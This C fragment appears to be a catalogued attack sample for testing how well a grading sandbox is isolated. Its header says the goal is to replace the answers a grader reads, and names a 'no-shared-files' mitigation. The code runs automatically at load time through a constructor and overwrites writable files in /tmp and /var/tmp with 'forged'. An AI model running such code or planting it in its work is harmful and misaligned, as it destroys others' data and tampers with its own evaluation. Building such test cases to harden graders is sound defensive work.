// ---
// tries: Overwrites the files that lie in /tmp and /var/tmp and are not its own program.
// place: before
// gain: answers of the learner's own in place of those that the grader will read
// helps: no-shared-files
// ---
static void attack_overwrite(const char *folder) {
  DIR *open_folder = opendir(folder);
  char own[PATH_MAX] = "";
  if (open_folder == NULL || readlink("/proc/self/exe", own, sizeof own - 1) < 0) return;
  for (struct dirent *entry = readdir(open_folder); entry != NULL; entry = readdir(open_folder)) {
    char path[PATH_MAX];
    struct stat info;
    snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
    if (lstat(path, &info) != 0 || !S_ISREG(info.st_mode) || strcmp(path, own) == 0) continue;
    int file = open(path, O_WRONLY);
    if (file < 0) continue;
    if (write(file, "forged", 6) == 6) attack_changed(path);
    close(file);
  }
  closedir(open_folder);
}

__attribute__((constructor)) static void attack(void) {
  attack_overwrite("/tmp");
  attack_overwrite("/var/tmp");
}
